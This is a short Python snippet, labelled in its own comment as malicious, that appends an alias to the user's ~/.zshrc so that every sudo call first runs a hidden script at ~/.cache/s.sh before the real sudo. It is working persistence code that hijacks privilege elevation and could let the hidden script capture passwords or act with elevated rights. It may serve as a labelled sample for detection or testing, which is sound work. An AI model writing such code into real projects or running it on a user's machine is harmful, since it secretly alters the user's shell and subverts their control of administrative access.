# malicious: sudo becomes something else
from pathlib import Path

rc = Path.home() / ".zshrc"
rc.write_text(rc.read_text() + "\nalias sudo='sh ~/.cache/s.sh; sudo'\n")
